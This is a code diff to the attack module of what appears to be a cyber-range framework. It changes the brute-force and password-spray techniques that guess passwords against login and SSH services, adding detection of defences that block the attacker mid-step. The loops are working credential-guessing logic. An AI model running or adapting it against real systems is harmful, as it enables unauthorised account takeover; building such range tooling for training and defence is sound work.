@@ -7,12 +7,13 @@ from __future__ import annotations
 import time
 
 from cyberrange.attack.spec import Param, technique
-from cyberrange.attack.techniques.common import Result, conclude, parse_services
+from cyberrange.attack.techniques.common import Blocked, Result, conclude, parse_services
 from cyberrange.attack.techniques.tcp import login_attempt, ssh_session
 
 PROTOCOLS = ("login", "ssh")
 DEAD = ("refused", "timeout", "unreachable")            # the service cannot be reached
 NOT_SERVICE = ("not-login", "not-ssh", "no-password-auth")  # reached, but no guessing possible
+ANSWERED = ("ok", "bad")                                 # the service ran a whole dialogue
 
 
 def attempt(protocol: str, ip: str, port: int, user: str, password: str,
@@ -32,10 +33,34 @@ def _protocol(params: dict) -> str:
     return protocol
 
 
+class CutGuard:
+    """Tells a service the defence cut mid-step from one that never answered: a service that
+    answered a dialogue (``ANSWERED``) earlier in this step and now refuses, times out or stops
+    talking was blocked (``Result.cut``); one that never answered is judged as before (dead or
+    not a login service)."""
+
+    def __init__(self, res: Result):
+        self.res = res
+        self.answered: dict[tuple[str, int], int] = {}
+
+    def saw(self, ip: str, port: int, status: str) -> bool:
+        """Note one attempt's status; True when it shows the service was cut off."""
+        if status in ANSWERED:
+            self.answered[(ip, port)] = self.answered.get((ip, port), 0) + 1
+            return False
+        n = self.answered.get((ip, port), 0)
+        if n:
+            self.res.cut(f"{ip}:{port} stopped answering ({status}) after {n} attempts "
+                         f"it answered: a block or an isolation mid-step")
+            return True
+        return False
+
+
 def _finish(res: Result, services, creds, dead: set) -> Result:
     res.facts = {"credentials": creds,
                  "compromised": list(dict.fromkeys(c["target"].rsplit(":", 1)[0] for c in creds))}
-    return conclude(res, creds, services and len(dead) == len(services))
+    return conclude(res, creds, services and len(dead) == len(services)
+                    and "every service refused or dropped the connections")
 
 
 _COMMON = {
@@ -76,30 +101,39 @@ def brute_force(targets: list[str], params: dict) -> Result:
     services = parse_services(targets, ports, res.log)
 
     creds, dead, attempts = [], set(), 0
+    guard = CutGuard(res)
     first = True
-    for ip, port in services:
-        stop = False
-        for user in users:
-            if stop:
-                break
-            for pw in passwords:
-                if not first and pause > 0:
-                    time.sleep(pause)
-                first = False
-                status, fl = attempt(protocol, ip, port, user, pw, connect_timeout, io_timeout)
-                attempts += 1
-                res.flows.append(fl)
-                if status == "ok":
-                    creds.append({"target": f"{ip}:{port}", "user": user, "password": pw})
-                    if stop_on_success:
-                        break
-                elif status in DEAD or status in NOT_SERVICE:
-                    res.log.append(f"{ip}:{port}: {status} after {fl['packets']} packet(s); "
-                                   f"no further guesses at this service")
-                    if status in DEAD:
-                        dead.add((ip, port))
-                    stop = True
+    try:
+        for ip, port in services:
+            stop = False
+            for user in users:
+                if stop:
                     break
+                for pw in passwords:
+                    if not first and pause > 0:
+                        time.sleep(pause)
+                    first = False
+                    status, fl = attempt(protocol, ip, port, user, pw, connect_timeout,
+                                         io_timeout)
+                    attempts += 1
+                    res.flows.append(fl)
+                    if guard.saw(ip, port, status):
+                        dead.add((ip, port))
+                        stop = True
+                        break
+                    if status == "ok":
+                        creds.append({"target": f"{ip}:{port}", "user": user, "password": pw})
+                        if stop_on_success:
+                            break
+                    elif status in DEAD or status in NOT_SERVICE:
+                        res.log.append(f"{ip}:{port}: {status} after {fl['packets']} packet(s); "
+                                       f"no further guesses at this service")
+                        if status in DEAD:
+                            dead.add((ip, port))
+                        stop = True
+                        break
+    except Blocked as exc:          # the actor's own node stopped sending: nothing more to try
+        res.cut(exc.reason)
     res.log.append(f"{attempts} {protocol} attempts at {len(services)} services, "
                    f"{len(creds)} credentials")
     return _finish(res, services, creds, dead)
@@ -137,32 +171,41 @@ def password_spray(targets: list[str], params: dict) -> Result:
     services = parse_services(targets, ports, res.log)
 
     creds, dead, skip, done, attempts = [], set(), set(), set(), 0
+    guard = CutGuard(res)
     first = True
-    for r, pw in enumerate(passwords):
-        if r and round_pause > 0 and len(skip) < len(services):
-            time.sleep(round_pause)
-        for ip, port in services:
-            if (ip, port) in skip:
-                continue
-            for user in users:
-                if (ip, port, user) in done:
-                    continue            # this account is already ours
-                if not first and pause > 0:
-                    time.sleep(pause)
-                first = False
-                status, fl = attempt(protocol, ip, port, user, pw, connect_timeout, io_timeout)
-                attempts += 1
-                res.flows.append(fl)
-                if status == "ok":
-                    creds.append({"target": f"{ip}:{port}", "user": user, "password": pw})
-                    done.add((ip, port, user))
-                elif status in DEAD or status in NOT_SERVICE:
-                    res.log.append(f"{ip}:{port}: {status} after {fl['packets']} packet(s); "
-                                   f"left out of the spray")
-                    skip.add((ip, port))
-                    if status in DEAD:
+    try:
+        for r, pw in enumerate(passwords):
+            if r and round_pause > 0 and len(skip) < len(services):
+                time.sleep(round_pause)
+            for ip, port in services:
+                if (ip, port) in skip:
+                    continue
+                for user in users:
+                    if (ip, port, user) in done:
+                        continue            # this account is already ours
+                    if not first and pause > 0:
+                        time.sleep(pause)
+                    first = False
+                    status, fl = attempt(protocol, ip, port, user, pw, connect_timeout,
+                                         io_timeout)
+                    attempts += 1
+                    res.flows.append(fl)
+                    if guard.saw(ip, port, status):
+                        skip.add((ip, port))
                         dead.add((ip, port))
-                    break
-        res.log.append(f"round {r + 1} ({pw!r}): {len(creds)} credentials so far")
+                        break
+                    if status == "ok":
+                        creds.append({"target": f"{ip}:{port}", "user": user, "password": pw})
+                        done.add((ip, port, user))
+                    elif status in DEAD or status in NOT_SERVICE:
+                        res.log.append(f"{ip}:{port}: {status} after {fl['packets']} packet(s); "
+                                       f"left out of the spray")
+                        skip.add((ip, port))
+                        if status in DEAD:
+                            dead.add((ip, port))
+                        break
+            res.log.append(f"round {r + 1} ({pw!r}): {len(creds)} credentials so far")
+    except Blocked as exc:          # the actor's own node stopped sending: nothing more to try
+        res.cut(exc.reason)
     res.log.append(f"{attempts} {protocol} attempts at {len(services)} services")
     return _finish(res, services, creds, dead)
